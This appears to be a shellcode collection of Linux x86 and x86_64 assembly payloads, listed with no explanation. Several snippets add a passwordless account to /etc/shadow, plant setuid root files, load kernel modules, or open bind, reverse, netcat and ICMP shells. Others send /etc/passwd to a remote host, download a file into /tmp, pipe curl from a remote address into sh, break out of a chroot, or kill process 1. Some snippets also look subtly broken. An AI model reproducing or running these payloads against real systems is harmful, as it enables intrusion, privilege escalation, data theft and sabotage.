; Linux: further things that are done to a machine, and further ways of talking to it; 32 bit, then 64.

;= shadow_open_write 32 | linux x86 | write /etc//shadow
	xor ecx, ecx
	mul ecx
	push ecx
	push dword 'adow'
	push dword '//sh'
	push dword '/etc'
	mov ebx, esp
	mov cx, 0x401
	mov al, 5
	int 80h
	xchg ebx, eax
	push dword 0x0a3a3a3a
	push dword ':::6'
	push dword '7::0'
	push dword '::15'
	push dword 'kenb'
	mov ecx, esp
	mov dl, 20
	push byte 4
	pop eax
	int 80h

;= chown_root 32 | linux x86 | call file.attributes
	xor eax, eax
	push eax
	push dword '/x.s'
	push dword '/tmp'
	mov ebx, esp
	xor ecx, ecx
	xor edx, edx
	mov al, 182
	int 80h
	mov al, 15
	mov cx, 04755o
	int 80h

;= swapoff 32 | linux x86 | call swapoff
	xor eax, eax
	push eax
	push dword 'sda2'
	push dword 'dev/'
	push word '//'
	mov ebx, esp
	mov al, 115
	int 80h

;= init_module 32 | linux x86 | call init_module
	push byte 5
	pop eax
	jmp short b
a:	pop ebx
	xor ecx, ecx
	int 80h
	mov ebx, eax
	xor edx, edx
	push edx
	mov edx, esp
	mov eax, 350
	xor esi, esi
	mov ecx, edx
	int 80h
b:	call a
	db '/tmp/m.ko', 0

;= socket_exec_udp_bind 32 | linux x86 | bind 53
	push byte 17
	push byte 2
	push byte 2
	mov ecx, esp
	push byte 1
	pop ebx
	push byte 102
	pop eax
	int 80h
	mov edi, eax
	xor edx, edx
	push edx
	push edx
	push edx
	push word 0x3500
	push word 2
	mov ecx, esp
	push byte 16
	push ecx
	push edi
	mov ecx, esp
	inc ebx
	push byte 102
	pop eax
	int 80h
	sub esp, 0x400
	mov esi, esp
	push edx
	push edx
	push edx
	push dword 0x400
	push esi
	push edi
	mov ecx, esp
	push byte 12
	pop ebx
	push byte 102
	pop eax
	int 80h
	jmp esi

;= sctp_reverse 32 | linux x86 | connect 192.0.2.9
	xor eax, eax
	cdq
	mov al, 102
	push byte 1
	pop ebx
	mov dl, 132
	push edx
	push ebx
	push byte 2
	mov ecx, esp
	int 80h
	xchg edi, eax
	push byte 102
	pop eax
	push dword 0x090200c0
	push word 0x5c11
	inc ebx
	push bx
	mov ecx, esp
	push byte 16
	push ecx
	push edi
	inc ebx
	mov ecx, esp
	int 80h
	xchg ebx, edi
	push byte 2
	pop ecx
l:	push byte 63
	pop eax
	int 80h
	dec ecx
	jns l
	xor edx, edx
	push edx
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push edx
	push ebx
	mov ecx, esp
	push byte 11
	pop eax
	int 80h

;= nc_shell 32 | linux x86 | execute /bin/nc -lp 4444
	xor eax, eax
	xor edx, edx
	push eax
	push dword '/sh '
	mov byte [esp + 3], al
	push dword '/bin'
	push word '-e'
	mov byte [esp + 2], 0x2f
	mov esi, esp
	jmp short b
a:	pop edi
	push edx
	lea ecx, [edi + 20]
	push ecx
	lea ecx, [edi + 17]
	push ecx
	lea ecx, [edi + 12]
	push ecx
	lea ecx, [edi + 8]
	push ecx
	push edi
	mov ecx, esp
	mov ebx, edi
	mov al, 11
	int 80h
b:	call a
	db '/bin/nc', 0, '-lp', 0, '4444', 0, '-e', 0, '/bin/sh', 0

;= perl_one_liner 32 | linux x86 | execute perl
	call a
	db '/usr/bin/perl', 0, '-e', 0, 'use Socket;socket(S,2,1,6);', 0
a:	pop ebx
	xor eax, eax
	push eax
	lea ecx, [ebx + 17]
	push ecx
	lea ecx, [ebx + 14]
	push ecx
	push ebx
	mov ecx, esp
	cdq
	mov al, 11
	int 80h

;= port_knock 32 | linux x86 | bind 31337
	xor ebx, ebx
	mul ebx
	push ebx
	inc ebx
	push ebx
	push byte 2
	mov ecx, esp
	mov al, 102
	int 80h
	mov esi, eax
	push edx
	push word 0x697a
	push word 2
	mov ecx, esp
	push byte 16
	push ecx
	push esi
	mov ecx, esp
	inc ebx
	mov al, 102
	int 80h
	mov [esp + 4], edx
	mov bl, 4
	mov al, 102
	int 80h
more:	push edx
	push edx
	push esi
	mov ecx, esp
	mov bl, 5
	push byte 102
	pop eax
	int 80h
	mov ebx, eax
	push byte 6
	pop eax
	int 80h
	inc edi
	cmp edi, byte 3
	jne more
	push byte 1
	pop eax
	int 80h

;= setns_chroot_break 32 | linux x86 | call chroot
	xor eax, eax
	push eax
	push dword 'kenb'
	mov ebx, esp
	mov cx, 0x1ed
	mov al, 39
	int 80h
	mov al, 61
	int 80h
	xor ecx, ecx
	mov cl, 0x20
	push word '..'
	mov ebx, esp
	mov byte [esp + 2], ch
u:	push byte 12
	pop eax
	int 80h
	loop u
	push byte '.'
	mov ebx, esp
	push byte 61
	pop eax
	int 80h
	push ecx
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	cdq
	push byte 11
	pop eax
	int 80h

;= setresgid_exec 32 | linux x86 | execute /bin//sh
	xor ebx, ebx
	xor ecx, ecx
	xor edx, edx
	push byte 85
	pop eax
	add eax, eax
	int 80h
	push edx
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	mov al, 11
	int 80h

;= setreuid_geteuid 32 | linux x86 | execute /bin//sh
	push byte 49
	pop eax
	int 80h
	mov ebx, eax
	mov ecx, eax
	push byte 70
	pop eax
	int 80h
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	push esp
	pop ebx
	push eax
	push ebx
	push esp
	pop ecx
	mov al, 11
	cdq
	int 80h

;= bash_p 32 | linux x86 | execute /bin/bash -p
	xor eax, eax
	push byte 11
	pop eax
	cdq
	push edx
	push word 0x702d
	mov ecx, esp
	push edx
	push byte 0x68
	push dword 0x7361622f
	push dword 0x6e69622f
	mov ebx, esp
	push edx
	push ecx
	push ebx
	mov ecx, esp
	int 80h

;= ptrace_detect_xor 32 | linux x86 | execute
	xor eax, eax
	xor ebx, ebx
	mov al, 26
	cdq
	push ebx
	pop ecx
	xor esi, esi
	int 80h
	cdq
	xor ecx, ecx
	push ecx
	mov eax, 0x68732f2f
	sub eax, edx
	push eax
	push dword 0x6e69622f
	mov ebx, esp
	mov al, 11
	and eax, 0xff
	xor edx, edx
	int 80h

;= read_file_to_socket 32 | linux x86 | connect 192.0.2.9
	push byte 102
	pop eax
	push byte 1
	pop ebx
	cdq
	push edx
	push ebx
	push byte 2
	mov ecx, esp
	int 80h
	xchg esi, eax
	push byte 102
	pop eax
	inc ebx
	push dword 0x090200c0
	push word 0x697a
	push bx
	mov ecx, esp
	push byte 16
	push ecx
	push esi
	mov ecx, esp
	inc ebx
	int 80h
	push edx
	push dword 'sswd'
	push dword '//pa'
	push dword '/etc'
	mov ebx, esp
	xor ecx, ecx
	push byte 5
	pop eax
	int 80h
	mov ebx, eax
	mov ecx, esp
	mov dx, 0x1000
	push byte 3
	pop eax
	int 80h
	mov edx, eax
	mov ebx, esi
	push byte 4
	pop eax
	int 80h

;= download_by_hand 32 | linux x86 | write
	push byte 102
	pop eax
	xor ebx, ebx
	cdq
	push edx
	inc ebx
	push ebx
	push byte 2
	mov ecx, esp
	int 80h
	mov edi, eax
	push dword 0x090200c0
	push dword 0x50000002
	mov ecx, esp
	push byte 16
	push ecx
	push edi
	mov ecx, esp
	mov bl, 3
	push byte 102
	pop eax
	int 80h
	push dword 0x0a0d0a0d
	push dword '/k.e'
	push dword 'GET '
	mov ecx, esp
	push byte 16
	pop edx
	mov ebx, edi
	push byte 4
	pop eax
	int 80h
	xor eax, eax
	push eax
	push dword 'mp/k'
	push word '/t'
	mov ebx, esp
	mov cx, 0x41
	mov dx, 0777o
	mov al, 5
	int 80h
	mov esi, eax
m:	mov ebx, edi
	sub esp, byte 0x40
	mov ecx, esp
	push byte 0x40
	pop edx
	push byte 3
	pop eax
	int 80h
	test eax, eax
	jle e
	mov edx, eax
	mov ebx, esi
	push byte 4
	pop eax
	int 80h
	jmp short m
e:	push byte 6
	pop eax
	mov ebx, esi
	int 80h

;= ioperm_out 32 | linux x86 | call iopl
	push byte 110
	pop eax
	push byte 3
	pop ebx
	int 80h
	push byte 1
	pop eax
	int 80h

;= fchmodat_shadow 64 | linux x86_64 | call
	push -100
	pop rdi
	xor eax, eax
	push rax
	mov rbx, '//shadow'
	push rbx
	mov rbx, '/////etc'
	push rbx
	mov rsi, rsp
	mov dx, 0666o
	mov ax, 268
	syscall

;= finit_module 64 | linux x86_64 | call finit_module
	mov rax, '/tmp/aa.'
	push 0x6f6b
	push rax
	mov rdi, rsp
	xor esi, esi
	push 2
	pop rax
	syscall
	push 0
	mov edi, eax
	mov rsi, rsp
	xor edx, edx
	mov eax, 313
	syscall

;= icmp_shell 64 | linux x86_64 | call recvfrom
	push 1
	pop rdx
	push 3
	pop rsi
	push 2
	pop rdi
	push 41
	pop rax
	syscall
	mov r12, rax
again:	sub rsp, 0x200
	mov rsi, rsp
	mov rdi, r12
	mov edx, 0x200
	xor r10d, r10d
	xor r8d, r8d
	xor r9d, r9d
	push 45
	pop rax
	syscall
	cmp dword [rsi + 28], 'exec'
	jne again
	lea rdi, [rsi + 32]
	xor esi, esi
	cdq
	push 59
	pop rax
	syscall

;= curl_pipe 64 | linux x86_64 | execute curl
	xor eax, eax
	cdq
	push rdx
	push word '-c'
	mov rcx, rsp
	mov rbx, '//bin/sh'
	push rdx
	push rbx
	mov rdi, rsp
	push rdx
	lea rbx, [rel c]
	push rbx
	push rcx
	push rdi
	mov rsi, rsp
	mov al, 59
	syscall
c:	db 'curl -s http://192.0.2.4/x|sh', 0

;= setuid_by_table 64 | linux x86_64 | execute /bin//sh
	xor edi, edi
	push 117
	pop rax
	xor esi, esi
	xor edx, edx
	syscall
	push rdi
	mov rax, 0x68732f2f6e69622f
	push rax
	push rsp
	pop rdi
	push rdx
	push rdi
	push rsp
	pop rsi
	push 59
	pop rax
	syscall

;= dash_c_env 64 | linux x86_64 | execute
	jmp d
u:	pop rdi
	xor edx, edx
	mov [rdi + 7], dl
	mov [rdi + 10], dl
	mov [rdi + 23], dl
	lea rax, [rdi + 8]
	lea rbx, [rdi + 11]
	push rdx
	push rbx
	push rax
	push rdi
	mov rsi, rsp
	mov al, 59
	movzx eax, al
	syscall
d:	call u
	db '/bin/shA-cAcat /etc/*dAAAA'

;= kill_by_name_pid 64 | linux x86_64 | call process.terminate process 1
	push 1
	pop rdi
	push 9
	pop rsi
	push 62
	pop rax
	syscall
	push 60
	pop rax
	syscall
